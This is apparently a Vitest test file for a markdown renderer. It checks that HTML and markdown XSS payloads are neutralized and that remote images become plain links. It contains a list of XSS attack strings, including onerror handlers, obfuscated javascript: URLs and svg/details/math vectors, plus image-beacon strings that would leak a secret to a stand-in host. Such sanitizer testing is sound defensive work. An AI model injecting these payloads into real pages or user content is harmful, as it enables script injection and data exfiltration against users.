import { describe, expect, it } from 'vitest';
import { isSafeUrl, renderMarkdown, renderMarkdownToHtml } from '../markdown';

const ATTACKS = [
  '<img src=x onerror="window.__pwned=1">',
  '<script>window.__pwned=1</script>',
  '<svg onload="window.__pwned=1"><circle/></svg>',
  '<iframe src="javascript:window.__pwned=1"></iframe>',
  '[click](javascript:window.__pwned=1)',
  '[click](JaVaScRiPt:window.__pwned=1)',
  '[click](java\tscript:window.__pwned=1)',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](javascript:window.__pwned=1)',
  '<a href="javascript:window.__pwned=1">x</a>',
  '[ref][1]\n\n[1]: javascript:window.__pwned=1',
  '<details open ontoggle="window.__pwned=1">x</details>',
  '<math><mi xlink:href="javascript:window.__pwned=1">x</mi></math>',
  '<javascript:window.__pwned=1>',
  '[x](<javascript:window.__pwned=1>)',
  '[x](&#106;avascript:window.__pwned=1)',
  '`<img src=x onerror=alert(1)>` and **<b onmouseover=alert(1)>bold</b>**'
];

function assertInert(host: HTMLElement): void {
  expect(host.querySelector('script, iframe, svg, math, object, embed, style, form')).toBeNull();
  for (const el of Array.from(host.querySelectorAll('*'))) {
    for (const attr of Array.from(el.attributes)) {
      expect(attr.name.startsWith('on'), `${el.tagName} ${attr.name}`).toBe(false);
      expect(
        /^\s*(javascript|data|vbscript):/i.test(attr.value),
        `${el.tagName} ${attr.name}=${attr.value}`
      ).toBe(false);
    }
  }
}

describe('markdown renderer', () => {
  it.each(ATTACKS)('neutralizes %s', attack => {
    const host = document.createElement('div');
    renderMarkdown(host, attack);
    assertInert(host);
    const parsed = document.createElement('div');
    parsed.replaceChildren(document.createRange().createContextualFragment(renderMarkdownToHtml(attack)));
    assertInert(parsed);
  });

  it.each([
    '![leak](https://beacon.invalid/p.png?d=secret)',
    '![leak][r]\n\n[r]: https://beacon.invalid/p.png?d=secret',
    '<img src="https://beacon.invalid/p.png?d=secret">',
    '<video poster="https://beacon.invalid/p.png"></video>',
    '[![badge](https://beacon.invalid/b.svg)](https://huggingface.co)'
  ])('loads nothing remote for %s: images become visible links', attack => {
    const host = document.createElement('div');
    renderMarkdown(host, attack);
    expect(
      host.querySelector('img, video, audio, source, picture, image, link, meta, [src], [poster]')
    ).toBeNull();
    expect(renderMarkdownToHtml(attack)).not.toMatch(/<(img|video)/);
    if (attack.startsWith('![') || attack.startsWith('[![')) {
      const link = host.querySelector('a.mlintern-image-link');
      expect(link?.textContent).toMatch(/^\[image: (leak|badge)\]$/);
      expect(link?.getAttribute('href')).toContain('beacon.invalid');
    }
  });

  it('shows raw HTML as text instead of dropping it silently', () => {
    const host = document.createElement('div');
    renderMarkdown(host, 'before <img src=x onerror=alert(1)> after');
    expect(host.textContent).toContain('<img src=x onerror=alert(1)>');
    expect(host.querySelector('img')).toBeNull();
  });

  it('renders ordinary markdown', () => {
    const host = document.createElement('div');
    renderMarkdown(
      host,
      '# Title\n\n**bold** `code` [hf](https://huggingface.co)\n\n```python\nprint(1)\n```'
    );
    expect(host.querySelector('h1')?.textContent).toBe('Title');
    expect(host.querySelector('strong')?.textContent).toBe('bold');
    expect(host.querySelector('pre code')?.textContent).toContain('print(1)');
    const link = host.querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://huggingface.co');
    expect(link?.getAttribute('rel')).toContain('noopener');
    expect(link?.getAttribute('target')).toBe('_blank');
  });

  it('classifies URLs', () => {
    for (const ok of [
      'https://x.org',
      'http://x',
      'mailto:a@b',
      '#frag',
      '/files/a.ipynb',
      'a/b.png',
      'rel?x=1'
    ]) {
      expect(isSafeUrl(ok), ok).toBe(true);
    }
    for (const bad of [
      'javascript:alert(1)',
      ' javascript:1',
      'java\nscript:1',
      'data:text/html,x',
      'vbscript:x',
      '//evil.org'
    ]) {
      expect(isSafeUrl(bad), bad).toBe(false);
    }
  });
});
